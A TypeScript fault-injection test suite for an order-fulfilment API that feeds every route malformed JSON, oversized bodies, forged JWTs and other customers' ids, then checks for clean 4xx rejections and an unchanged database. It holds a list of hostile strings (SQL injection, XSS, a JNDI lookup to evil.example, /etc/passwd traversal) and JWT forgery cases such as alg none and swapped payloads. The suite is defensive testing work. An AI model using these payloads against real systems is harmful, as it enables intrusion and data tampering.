/**
 * Fault suite, scenario 6: bad input. Every route of the real stack, over
 * HTTP, fed malformed JSON, wrong types, impossible quantities, oversized
 * bodies, hostile and broken strings, bad tokens and other customers' ids:
 * table rows assert the exact status and code, fast-check properties fuzz the
 * rest. Every rejection is a 4xx with a {code, message} body, nothing is ever
 * a 5xx, and a content hash of every table proves that no rejected request
 * wrote anything.
 */
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import fc from 'fast-check';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTokens } from '../../api/auth/tokens';
import { carrierSignatureHeaders } from '../../api/carrier-signature';
import { address, bootFaultStack, type Customer, type FaultStack, type Reply } from './support/fault-stack';

let f: FaultStack;
let started = 0;
let alice: Customer; // owns orderA and a cart line
let bob: Customer; // owns orderB; plays the other customer
let carol: Customer; // never has anything in her cart
let adminToken: string;
let product: string; // for sale, plenty of stock
let inactive: string; // not for sale
let pricey: string; // 99 of it cost more than an amount column holds
let orderA: string;
let orderB: string;
let aliceEmail: string;

const NO_PRODUCT = 'prod_does_not_exist';
/** a webhook subscription id that does not exist */
const NO_SUBSCRIPTION = '00000000-0000-4000-8000-000000000000';
/** the stack's webhook key (made by its development mode), set once it is up */
let CARRIER_SECRET = '';
const ISSUER = 'order-fulfilment';
const AUDIENCE = 'order-fulfilment-api';
const JSON_CT = { 'content-type': 'application/json' };
const paymentMethod = { token: 'tok_visa' };

// ---------- bookkeeping: every request goes through send() ----------

let sent = 0;
let maxStatus = 0;
const statuses: Record<number, number> = {};

interface Req {
  method: string;
  path: string;
  token?: string;
  body?: unknown;
  raw?: string;
  headers?: Record<string, string>;
  /** signs the bytes sent as a carrier does, with this key (and this unix time, else now) */
  signWith?: string;
  signAt?: number;
}

async function send(req: Req): Promise<Reply> {
  const payload = req.body !== undefined ? JSON.stringify(req.body) : req.raw;
  const r = req.signWith === undefined ? req : { ...req, headers: { ...req.headers, ...carrierSignatureHeaders(req.signWith, payload ?? '', req.signAt) } };
  if (payload !== undefined && payload.length > BIG) {
    const headers = { ...(r.body !== undefined ? JSON_CT : {}), ...r.headers, ...(r.token ? { authorization: `Bearer ${r.token}` } : {}) };
    return sendRaw(r.method, r.path, headers, Buffer.from(payload));
  }
  const reply = await f.api(r.method, r.path, { token: r.token, body: r.body, raw: r.raw, headers: r.headers });
  count(reply.status);
  return reply;
}

function count(status: number) {
  sent += 1;
  maxStatus = Math.max(maxStatus, status);
  statuses[status] = (statuses[status] ?? 0) + 1;
}

/**
 * Raw bytes over node:http, as one body or in chunks (Transfer-Encoding:
 * chunked). Used for bodies over the limit too: the API answers 413 before
 * the upload ends, and fetch (undici) reports the closed upload instead of
 * the answer, where node:http reads the answer as it comes.
 */
const BIG = 60_000;
function sendRaw(method: string, path: string, headers: Record<string, string>, body: Buffer, chunkSize?: number): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = http.request(new URL(path, f.stack.apiUrl), {
      method,
      agent: false,
      headers: chunkSize ? headers : { ...headers, 'content-length': String(body.length) },
    });
    let answered = false;
    req.on('response', (res) => {
      const parts: Buffer[] = [];
      res.on('data', (chunk: Buffer) => parts.push(chunk));
      res.on('error', (err) => (answered ? undefined : reject(err)));
      res.on('end', () => {
        answered = true;
        const text = Buffer.concat(parts).toString('utf8');
        count(res.statusCode!);
        let parsed: unknown = text;
        try {
          parsed = text ? JSON.parse(text) : undefined;
        } catch {
          // not JSON
        }
        resolve({ status: res.statusCode!, body: parsed });
      });
    });
    req.on('error', (err) => (answered ? undefined : reject(err)));
    if (!chunkSize) req.end(body);
    else {
      for (let i = 0; i < body.length; i += chunkSize) req.write(body.subarray(i, i + chunkSize));
      req.end();
    }
  });
}

const show = (r: Reply) => `${r.status} ${JSON.stringify(r.body)?.slice(0, 300)}`;

/** A rejection as the API promises it: 4xx, JSON {code, message}. */
function rejection(r: Reply): string | undefined {
  if (r.status < 400 || r.status >= 500) return `not a 4xx: ${show(r)}`;
  if (typeof r.body?.code !== 'string' || !r.body.code || typeof r.body?.message !== 'string' || !r.body.message) return `no {code, message} body: ${show(r)}`;
  return undefined;
}

function expectRejected(r: Reply, status?: number, code?: string, what = '') {
  const problem = rejection(r);
  if (problem) throw new Error(`${what}: ${problem}`);
  if (status !== undefined && (r.status !== status || r.body.code !== code)) throw new Error(`${what}: expected ${status} ${code}, got ${show(r)}`);
}

/** Reads may answer 200; nothing may answer 5xx, and an error must say which. */
function expectAnswered(r: Reply, what: string) {
  if (r.status >= 200 && r.status < 300) return;
  expectRejected(r, undefined, undefined, what);
}

// ---------- the database, fingerprinted ----------

const TABLES = [
  'users',
  'products',
  'stock',
  'cart_items',
  'orders',
  'order_items',
  'order_events',
  'reservations',
  'payments',
  'gateway_transactions',
  'checkout_requests',
  'shipments',
  'notifications',
];
const FINGERPRINT = TABLES.map(
  (t) => `SELECT '${t}' AS t, count(*)::int AS n, coalesce(md5(string_agg(x::text, E'\\n' ORDER BY x::text)), '') AS h FROM ${t} x`,
).join(' UNION ALL ');

/** Row count and a hash of every row of every table. */
async function snapshot(): Promise<Record<string, string>> {
  const rows = await f.db.$queryRawUnsafe<{ t: string; n: number; h: string }[]>(FINGERPRINT);
  return Object.fromEntries(rows.map((r) => [r.t, `${r.n} rows, md5 ${r.h}`]));
}

async function expectUnchanged(before: Record<string, string>, what: string) {
  const after = await snapshot();
  const changed = TABLES.filter((t) => after[t] !== before[t]).map((t) => `${t}: ${before[t]} -> ${after[t]}`);
  if (changed.length) throw new Error(`${what} changed the database: ${changed.join('; ')}`);
}

/** Waits until nothing in the background (notifications, status writes) still changes a table. */
async function quiesce(): Promise<Record<string, string>> {
  let last = await snapshot();
  let stableSince = Date.now();
  const deadline = Date.now() + 60_000;
  while (Date.now() - stableSince < 2_000) {
    if (Date.now() > deadline) throw new Error('the database never stopped changing');
    await new Promise((r) => setTimeout(r, 250));
    const now = await snapshot();
    if (JSON.stringify(now) !== JSON.stringify(last)) [last, stableSince] = [now, Date.now()];
  }
  return last;
}

// ---------- hostile values ----------

const NASTY = [
  "'; DROP TABLE orders; --",
  '1 OR 1=1',
  "' OR '1'='1",
  "Robert'); DROP TABLE users;--",
  '1; SELECT pg_sleep(10); --',
  '$1',
  '%',
  '_',
  '\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${jndi:ldap://evil.example/x}',
  '../../../../etc/passwd',
  '%00',
  '%s%s%s%n',
  'null',
  'undefined',
  'NaN',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '😀🚚📦',
  '👩‍👩‍👧‍👦',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u202Egnp.exe',
  '中文地址',
  'Z̷̡̛̮̳͉̦͝a̸̗̯̣l̶̫̱g̷o̸',
  '\u200B',
  '\uFEFF',
  '\u00A0',
  'a\u0000b',
  '\u0000',
  'x\uD800',
  '\uDC00y',
  '\uD83D',
  '',
  ' ',
  '   ',
  '\t',
  '\r\n',
  'x'.repeat(5_000),
  'é'.repeat(2_000),
  '😀'.repeat(1_000),
];
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));
const anyChars = fc
  .array(fc.oneof({ weight: 8, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) }, { weight: 1, arbitrary: loneSurrogate }), { maxLength: 40 })
  .map((parts) => parts.join(''));
const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 3, arbitrary: anyChars },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY), anyChars).map(([a, b]) => a + b) },
  { weight: 2, arbitrary: fc.tuple(fc.integer({ min: 0, max: 600 }), fc.constantFrom('x', 'é', '😀', ' ', '\u0000', 'ש')).map(([n, c]) => c.repeat(n)) },
);

/** zod measures strings in code points, not UTF-16 units. */
const codePoints = (s: string) => [...s].length;
/** api/schemas.ts text(min, max), restated: trimmed length, no NUL, no unpaired surrogate. */
const textOk = (s: string, min: number, max: number) => {
  const t = s.trim();
  return codePoints(t) >= min && codePoints(t) <= max && !t.includes('\u0000') && !/\p{Cs}/u.test(t);
};

/** encodeURIComponent that does not throw on unpaired surrogates: they go out as their (invalid UTF-8) CESU-8 bytes. */
const encode = (s: string) =>
  [...s]
    .map((ch) => {
      const cp = ch.codePointAt(0)!;
      if (cp < 0xd800 || cp > 0xdfff) return encodeURIComponent(ch);
      return [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
    })
    .join('');

/** Any JSON value that is not a string. */
const notAString = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.string(), { maxLength: 3 }), fc.dictionary(fc.string(), fc.integer(), { maxKeys: 3 }));
/** Any JSON value that is not a safe integer (zod .int()); fc.double() also brings NaN and ±Infinity, which JSON sends as null. */
const notAnInt = fc.oneof(
  fc.double().filter((d) => !Number.isSafeInteger(d)),
  fc.constantFrom(0.5, 1.5, -1.5, 99.000001, 2 ** 53, 2 ** 53 + 2, -(2 ** 53), 1e308, -1e308, Number.MIN_VALUE),
  fc.integer().map(String),
  fc.constantFrom('1', 'NaN', 'Infinity', '-0', '1e3', '', ' 1'),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 2 }),
  fc.constant({}),
);
const notAnObject = fc.oneof(fc.string(), fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.integer(), { maxLength: 2 }));
const notAnArray = fc.oneof(fc.string(), fc.integer(), fc.boolean(), fc.constant(null), fc.constant({}), fc.constant([]));
const missing = fc.constant(undefined);

// ---------- tokens ----------

const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
const nowS = () => Math.floor(Date.now() / 1000);
const claims = (over: Record<string, unknown> = {}) => ({ sub: alice.id, role: 'CUSTOMER', iss: ISSUER, aud: AUDIENCE, iat: nowS(), exp: nowS() + 600, ...over });
const drop = (o: Record<string, unknown>, key: string) => Object.fromEntries(Object.entries(o).filter(([k]) => k !== key));
const sign = (payload: Record<string, unknown>, secret = f.stack.secrets.JWT_SECRET, alg = 'HS256') =>
  new SignJWT(payload).setProtectedHeader({ alg, typ: 'JWT' }).sign(new TextEncoder().encode(secret));
const FORGED_SECRET = 'an-attacker-guessed-this-secret-of-32+chars';
/** the development default this project once published in its source */
const PUBLISHED_JWT_SECRET = 'dev-only-jwt-secret-do-not-use-in-production-0000';

/** Authorization header values that must all be refused (undefined = no header at all). */
async function badAuthorizations(): Promise<[string, string | undefined][]> {
  const [head, , sig] = alice.token.split('.');
  return [
    ['no Authorization header', undefined],
    ['Bearer without a token', 'Bearer'],
    ['Basic credentials', 'Basic YWxpY2U6cGFzc3dvcmQ='],
    ['garbage', 'Bearer not-a-jwt'],
    ['three empty-ish parts', 'Bearer a.b.c'],
    ['a token and more', `Bearer ${alice.token} ${alice.token}`],
    ['a token lower-cased', `Bearer ${alice.token.toLowerCase()}`],
    ['expired', `Bearer ${await sign(claims({ iat: nowS() - 7_200, exp: nowS() - 3_600 }))}`],
    ['not yet valid (nbf)', `Bearer ${await sign(claims({ nbf: nowS() + 3_600 }))}`],
    ['forged: another secret', `Bearer ${await sign(claims(), FORGED_SECRET)}`],
    ['forged admin: another secret', `Bearer ${await sign(claims({ role: 'ADMIN' }), FORGED_SECRET)}`],
    ['forged admin: the once-published default secret', `Bearer ${await sign(claims({ role: 'ADMIN' }), PUBLISHED_JWT_SECRET)}`],
    ['alg none', `Bearer ${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims())}.`],
    ['alg NONE admin', `Bearer ${b64({ alg: 'NONE' })}.${b64(claims({ role: 'ADMIN' }))}.`],
    ['alg none with a real signature', `Bearer ${b64({ alg: 'none' })}.${b64(claims())}.${sig}`],
    ['HS512 with the right secret', `Bearer ${await sign(claims(), f.stack.secrets.JWT_SECRET, 'HS512')}`],
    ['payload swapped to admin, signature kept', `Bearer ${head}.${b64(claims({ role: 'ADMIN' }))}.${sig}`],
    ['payload swapped to bob, signature kept', `Bearer ${head}.${b64(claims({ sub: bob.id }))}.${sig}`],
    ['wrong issuer', `Bearer ${await sign(claims({ iss: 'someone-else' }))}`],
    ['wrong audience', `Bearer ${await sign(claims({ aud: 'another-api' }))}`],
    ['no sub', `Bearer ${await sign(drop(claims(), 'sub'))}`],
    ['no exp', `Bearer ${await sign(drop(claims(), 'exp'))}`],
    ['no iat', `Bearer ${await sign(drop(claims(), 'iat'))}`],
    ['exp is a string', `Bearer ${await sign(claims({ exp: 'tomorrow' }))}`],
    ['unknown role', `Bearer ${await sign(claims({ role: 'SUPERUSER' }))}`],
    ['no role', `Bearer ${await sign(drop(claims(), 'role'))}`],
    ['header is not JSON', `Bearer ${b64('not json')}.${b64(claims())}.${sig}`],
    ['8 kB of base64', `Bearer ${'A'.repeat(8_000)}`],
  ];
}

// ---------- request bodies ----------

const orderBody = (productId: string, quantity: unknown = 1, extra: Record<string, unknown> = {}) => ({
  items: [{ productId, quantity }],
  shippingAddress: address,
  paymentMethod,
  ...extra,
});
const checkoutBody = { shippingAddress: address, paymentMethod };
const newProduct = (over: Record<string, unknown> = {}) => ({
  id: product, // exists: a body that passes validation is refused as PRODUCT_EXISTS
  sku: `FUZZ-${randomUUID().slice(0, 8)}`,
  name: 'Fuzz',
  category: 'test',
  price: { amount: 100, currency: 'USD' },
  stock: 1,
  ...over,
});

/** Every route that needs a token, each with a body its owner could send: only the token stands in the way. */
const gated = (): Req[] => [
  { method: 'GET', path: '/api/v1/users/me' },
  { method: 'GET', path: '/api/v1/cart' },
  { method: 'DELETE', path: '/api/v1/cart' },
  { method: 'POST', path: '/api/v1/cart/items', body: { productId: product, quantity: 1 } },
  { method: 'PUT', path: `/api/v1/cart/items/${product}`, body: { quantity: 5 } },
  { method: 'DELETE', path: `/api/v1/cart/items/${product}` },
  { method: 'POST', path: '/api/v1/checkout', body: checkoutBody, headers: { 'idempotency-key': randomUUID() } },
  { method: 'POST', path: '/api/v1/orders', body: orderBody(product) },
  { method: 'GET', path: '/api/v1/orders' },
  { method: 'GET', path: `/api/v1/orders/${orderA}` },
  { method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, body: { reason: 'hijacked' } },
  { method: 'GET', path: `/api/v1/orders/${orderA}/events` },
  { method: 'POST', path: `/api/v1/orders/${orderA}/return`, body: { reason: 'hijacked' } },
  { method: 'GET', path: '/api/v1/admin/orders' },
  { method: 'POST', path: '/api/v1/admin/products', body: newProduct({ id: undefined }) },
  { method: 'PATCH', path: `/api/v1/admin/products/${product}`, body: { price: { amount: 1, currency: 'USD' } } },
  { method: 'PUT', path: `/api/v1/admin/inventory/${product}`, body: { add: 1_000 } },
  { method: 'GET', path: '/api/v1/admin/webhooks' },
  { method: 'POST', path: '/api/v1/admin/webhooks', body: { url: 'https://shop.example/hooks' } },
  { method: 'POST', path: `/api/v1/admin/webhooks/${NO_SUBSCRIPTION}/replay`, body: { fromEventId: '1' } },
];

// ---------- the stack ----------

beforeAll(async () => {
  // nothing may move in the background: the warehouse holds confirmed orders for an hour
  f = await bootFaultStack('bad-input', { FULFILMENT_HANDLING_MS: '3600000' });
  started = Date.now();
  CARRIER_SECRET = f.stack.secrets.CARRIER_WEBHOOK_SECRET;
  [alice, bob, carol] = (await f.customers(3)) as [Customer, Customer, Customer];
  aliceEmail = (await f.db.user.findUniqueOrThrow({ where: { id: alice.id } })).email;
  // an admin account that exists: a token is checked against its account (role, token version)
  const adminId = randomUUID();
  await f.db.user.create({ data: { id: adminId, email: `admin-${adminId.slice(0, 8)}@faults.test`, passwordHash: 'unused', role: 'ADMIN' } });
  adminToken = (await createTokens({ secret: f.stack.secrets.JWT_SECRET, ttlSeconds: 3_600 }).issue({ id: adminId, role: 'ADMIN' })).accessToken;
  product = await f.product(1_000, 1_000);
  inactive = await f.product(10, 1_000);
  await f.db.product.update({ where: { id: inactive }, data: { active: false } });
  pricey = await f.product(1_000, 100_000_000);

  const placedA = await f.order(alice, [{ productId: product, quantity: 2 }]);
  const placedB = await f.order(bob, [{ productId: product, quantity: 1 }]);
  expect(placedA, show(placedA)).toMatchObject({ status: 201, body: { status: 'CONFIRMED' } });
  expect(placedB, show(placedB)).toMatchObject({ status: 201, body: { status: 'CONFIRMED' } });
  [orderA, orderB] = [placedA.body.orderId, placedB.body.orderId];
  await f.settle([orderA, orderB], 60_000, (s) => s === 'PROCESSING');
  expect((await f.api('POST', '/api/v1/cart/items', { token: alice.token, body: { productId: product, quantity: 2 } })).status).toBe(200);
  await quiesce();
}, 600_000);

afterAll(async () => {
  await f?.stop();
});

// ---------- the tables ----------

interface Row extends Req {
  name: string;
  status: number;
  code?: string; // undefined: a 2xx expected, or a 4xx the app cannot shape (431 from Node's HTTP parser)
}

async function runTable(rows: Row[]) {
  const before = await snapshot();
  const wrong: string[] = [];
  for (const row of rows) {
    const r = await send(row);
    if (r.status !== row.status || (row.code !== undefined && r.body?.code !== row.code)) wrong.push(`${row.name}: expected ${row.status} ${row.code ?? ''}, got ${show(r)}`);
    else if (row.code !== undefined) {
      const problem = rejection(r);
      if (problem) wrong.push(`${row.name}: ${problem}`);
    }
  }
  expect(wrong).toEqual([]);
  await expectUnchanged(before, 'a table row');
}

const fuzz = <T>(arb: fc.Arbitrary<T>, run: (value: T) => Promise<void>, numRuns: number) =>
  fc.assert(
    fc.asyncProperty(arb, async (value) => {
      const before = await snapshot();
      await run(value);
      await expectUnchanged(before, 'a fuzzed request');
    }),
    { numRuns },
  );

describe('fault suite: bad input (real stack, over HTTP)', () => {
  it('bad tokens on every route that needs one: 401 UNAUTHENTICATED, nothing read or written; a customer on admin routes: 403', async () => {
    const before = await snapshot();
    const wrong: string[] = [];
    for (const [name, authorization] of await badAuthorizations()) {
      for (const req of gated()) {
        const r = await send({ ...req, headers: { ...req.headers, ...(authorization ? { authorization } : {}) } });
        if (r.status !== 401 || r.body?.code !== 'UNAUTHENTICATED' || !r.body?.message) wrong.push(`${name} ${req.method} ${req.path}: ${show(r)}`);
        else if (name === 'expired' && !/expired/.test(r.body.message)) wrong.push(`${name}: the message does not say so: ${r.body.message}`);
      }
    }
    for (const req of gated().filter((g) => g.path.startsWith('/api/v1/admin'))) {
      const r = await send({ ...req, token: alice.token });
      if (r.status !== 403 || r.body?.code !== 'FORBIDDEN') wrong.push(`customer on ${req.method} ${req.path}: ${show(r)}`);
    }
    expect(wrong).toEqual([]);
    await expectUnchanged(before, 'a request with a bad token');
  });

  it("other customers' ids: bob can neither see, stream, cancel, return nor take over alice's order, nor touch her cart", async () => {
    const ghost = (await createTokens({ secret: f.stack.secrets.JWT_SECRET, ttlSeconds: 600 }).issue({ id: randomUUID(), role: 'CUSTOMER' })).accessToken;
    const shipment = await f.db.shipment.findFirst({ where: { orderId: orderA } });
    await runTable([
      { name: 'bob reads A', method: 'GET', path: `/api/v1/orders/${orderA}`, token: bob.token, status: 404, code: 'ORDER_NOT_FOUND' },
      { name: 'bob streams A', method: 'GET', path: `/api/v1/orders/${orderA}/events`, token: bob.token, status: 404, code: 'ORDER_NOT_FOUND' },
      { name: 'bob cancels A', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: bob.token, body: { reason: 'mine now' }, status: 404, code: 'ORDER_NOT_FOUND' },
      { name: 'bob cancels A, no body', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: bob.token, status: 404, code: 'ORDER_NOT_FOUND' },
      { name: 'bob returns A', method: 'POST', path: `/api/v1/orders/${orderA}/return`, token: bob.token, body: { reason: 'mine now' }, status: 404, code: 'ORDER_NOT_FOUND' },
      { name: "bob places an order under A's id", method: 'POST', path: '/api/v1/orders', token: bob.token, body: orderBody(product, 1, { orderId: orderA }), status: 422, code: 'ORDER_ID_REUSED' },
      { name: 'a token of a user that does not exist: /me', method: 'GET', path: '/api/v1/users/me', token: ghost, status: 401, code: 'UNAUTHENTICATED' },
      { name: 'a token of a user that does not exist: A', method: 'GET', path: `/api/v1/orders/${orderA}`, token: ghost, status: 401, code: 'UNAUTHENTICATED' },
      { name: 'bob removes the product alice has in her cart', method: 'DELETE', path: `/api/v1/cart/items/${product}`, token: bob.token, status: 200 },
      { name: 'bob empties "the" cart', method: 'DELETE', path: '/api/v1/cart', token: bob.token, status: 200 },
      { name: 'bob lists all orders', method: 'GET', path: '/api/v1/admin/orders', token: bob.token, status: 403, code: 'FORBIDDEN' },
      { name: 'alice returns her undelivered order', method: 'POST', path: `/api/v1/orders/${orderA}/return`, token: alice.token, body: { reason: 'changed my mind' }, status: 409, code: 'ORDER_NOT_RETURNABLE' },
      { name: 'alice: a NUL in a return reason', method: 'POST', path: `/api/v1/orders/${orderA}/return`, token: alice.token, body: { reason: 'a\u0000b' }, status: 400, code: 'VALIDATION_FAILED' },
      ...(shipment
        ? [{ name: "A's real tracking number with a wrong carrier secret", method: 'POST', path: '/api/v1/webhooks/carrier', signWith: 'not-the-secret-not-the-secret-not-the-secret', body: { trackingNumber: shipment.trackingNumber, event: 'delivered' }, status: 401, code: 'UNAUTHENTICATED' }]
        : []),
    ]);
    // what bob sees is his own: his order, his (empty) cart
    const list = await send({ method: 'GET', path: '/api/v1/orders?limit=100', token: bob.token });
    expect(list.body.items.map((o: { id: string }) => o.id)).toEqual([orderB]);
    expect((await send({ method: 'GET', path: '/api/v1/cart', token: bob.token })).body).toMatchObject({ items: [], itemCount: 0 });
    expect((await send({ method: 'GET', path: '/api/v1/cart', token: alice.token })).body).toMatchObject({ items: [{ productId: product, quantity: 2 }] });
  });

  it('malformed JSON, wrong content types, oversized bodies: 400 INVALID_JSON, 415, 413', async () => {
    const add = (raw: string, headers: Record<string, string> = JSON_CT) => ({ method: 'POST', path: '/api/v1/cart/items', token: carol.token, raw, headers });
    const lines = (n: number, id: (i: number) => string) => Array.from({ length: n }, (_, i) => ({ productId: id(i), quantity: 1 }));
    const invalidJson = ['{"productId": ', '{productId: "x", quantity: 1}', "{'productId': 'x'}", '{"productId":"x","quantity":1,}', '{"productId":"x","quantity":NaN}', '{"a":"\\uZZZZ"}', '', '}{', 'undefined', '{"a":1}{"b":2}'];
    await runTable([
      ...invalidJson.map((raw) => ({ name: `malformed JSON ${JSON.stringify(raw)}`, ...add(raw), status: 400, code: 'INVALID_JSON' })),
      ...['null', '[]', '"a string"', '42', 'true', '{}', '{"productId":"x","quantity":1e999}', '['.repeat(5_000) + ']'.repeat(5_000)].map((raw) => ({
        name: `JSON of the wrong shape ${raw.slice(0, 20)}`,
        ...add(raw),
        status: 400,
        code: 'VALIDATION_FAILED',
      })),
      { name: 'text/plain', ...add('{"productId":"x","quantity":1}', { 'content-type': 'text/plain' }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'no content type', ...add('{"productId":"x","quantity":1}', {}), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'form', ...add('productId=x&quantity=1', { 'content-type': 'application/x-www-form-urlencoded' }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'multipart', ...add('--b\r\n\r\nx\r\n--b--', { 'content-type': 'multipart/form-data; boundary=b' }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'xml', ...add('<productId>x</productId>', { 'content-type': 'application/xml' }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'jsonp', ...add('{}', { 'content-type': 'application/jsonp' }), status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'checkout as a form', method: 'POST', path: '/api/v1/checkout', token: carol.token, raw: 'a=1', headers: { 'content-type': 'application/x-www-form-urlencoded', 'idempotency-key': randomUUID() }, status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'register as text', method: 'POST', path: '/api/v1/users/register', raw: JSON.stringify({ email: 'x@faults.test', password: 'correct horse battery' }), headers: { 'content-type': 'text/plain' }, status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      { name: 'an order of 10,000 lines', method: 'POST', path: '/api/v1/orders', token: bob.token, body: { ...orderBody(product), items: lines(10_000, () => product) }, status: 413, code: 'PAYLOAD_TOO_LARGE' },
      { name: '10,000 cart lines in one request', method: 'POST', path: '/api/v1/cart/items', token: carol.token, body: lines(10_000, (i) => `p${i}`), status: 413, code: 'PAYLOAD_TOO_LARGE' },
      { name: 'an order of 1,000 distinct lines (fits the body limit)', method: 'POST', path: '/api/v1/orders', token: bob.token, body: { ...orderBody(product), items: lines(1_000, (i) => `p${i}`) }, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'one product on 40 lines', method: 'POST', path: '/api/v1/orders', token: bob.token, body: { ...orderBody(product), items: lines(40, () => product) }, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'a 100,000-character name', method: 'POST', path: '/api/v1/orders', token: bob.token, body: orderBody(product, 1, { shippingAddress: { ...address, name: 'x'.repeat(100_000) } }), status: 413, code: 'PAYLOAD_TOO_LARGE' },
      { name: 'a 100,000-character cancel reason', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token, body: { reason: 'é'.repeat(100_000) }, status: 413, code: 'PAYLOAD_TOO_LARGE' },
      { name: 'a 60,000-character name (fits the body limit)', method: 'POST', path: '/api/v1/orders', token: bob.token, body: orderBody(product, 1, { shippingAddress: { ...address, name: 'x'.repeat(60_000) } }), status: 400, code: 'VALIDATION_FAILED' },
      { name: 'a 1,000-character cancel reason, on her own order', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token, body: { reason: 'x'.repeat(1_000) }, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'a 100,000-character password', method: 'POST', path: '/api/v1/users/register', body: { email: 'long@faults.test', password: 'p'.repeat(100_000) }, status: 413, code: 'PAYLOAD_TOO_LARGE' },
      { name: 'a 2,000-character password', method: 'POST', path: '/api/v1/users/login', body: { email: aliceEmail, password: 'p'.repeat(2_000) }, status: 400, code: 'VALIDATION_FAILED' },
    ]);
    // bodies fetch will not build from a string
    const before = await snapshot();
    const auth = { authorization: `Bearer ${bob.token}`, ...JSON_CT };
    const tenThousand = Buffer.from(JSON.stringify({ ...orderBody(product), items: lines(10_000, (i) => `p${i}`) }));
    expectRejected(await sendRaw('POST', '/api/v1/orders', auth, tenThousand, 8_192), 413, 'PAYLOAD_TOO_LARGE', 'a chunked 10,000-line order');
    expectRejected(await sendRaw('POST', '/api/v1/orders', auth, Buffer.from('{"items": ['), 4), 400, 'INVALID_JSON', 'a chunked, truncated body');
    const invalidUtf8 = Buffer.concat([Buffer.from('{"productId":"'), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from('","quantity":1}')]);
    expectRejected(await sendRaw('POST', '/api/v1/cart/items', { authorization: `Bearer ${carol.token}`, ...JSON_CT }, invalidUtf8), 422, 'PRODUCT_NOT_FOUND', 'invalid UTF-8 in a product id');
    const utf16 = Buffer.from(JSON.stringify({ productId: product, quantity: 1 }), 'utf16le');
    expectRejected(await sendRaw('POST', '/api/v1/cart/items', { authorization: `Bearer ${carol.token}`, 'content-type': 'application/json; charset=utf-16' }, utf16), 400, 'INVALID_JSON', 'a UTF-16 body');
    await expectUnchanged(before, 'a raw body');
  });

  it('wrong methods, unknown routes, bad path and query parameters: 405 METHOD_NOT_ALLOWED, 404 NOT_FOUND, 400 VALIDATION_FAILED', async () => {
    const cursor = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
    const sql = encodeURIComponent("'; DROP TABLE orders; --");
    const get = (path: string, status: number, code?: string, token?: string): Row => ({ name: `GET ${path.slice(0, 80)}`, method: 'GET', path, token, status, code });
    await runTable([
      { name: 'PATCH the cart', method: 'PATCH', path: '/api/v1/cart', token: alice.token, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'PUT the order list', method: 'PUT', path: '/api/v1/orders', token: alice.token, body: {}, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'DELETE an order', method: 'DELETE', path: `/api/v1/orders/${orderA}`, token: alice.token, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'PATCH an order', method: 'PATCH', path: `/api/v1/orders/${orderA}`, token: alice.token, body: { status: 'DELIVERED' }, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'GET checkout', method: 'GET', path: '/api/v1/checkout', token: alice.token, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'GET cancel', method: 'GET', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'GET the carrier webhook', method: 'GET', path: '/api/v1/webhooks/carrier', status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'POST a product as a customer route', method: 'POST', path: '/api/v1/products', body: { name: 'x' }, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'DELETE a product', method: 'DELETE', path: `/api/v1/admin/products/${product}`, token: adminToken, status: 405, code: 'METHOD_NOT_ALLOWED' },
      { name: 'OPTIONS', method: 'OPTIONS', path: '/api/v1/products', status: 405, code: 'METHOD_NOT_ALLOWED' },
      get('/api/v2/orders', 404, 'NOT_FOUND'),
      get('/api/v1/nope', 404, 'NOT_FOUND'),
      get(`/api/v1/orders/${orderA}/nope`, 404, 'NOT_FOUND', alice.token),
      get('//api/v1/products', 404, 'NOT_FOUND'),
      get(`/api/v1/products/${encodeURIComponent('../../etc/passwd')}`, 404, 'NOT_FOUND'),
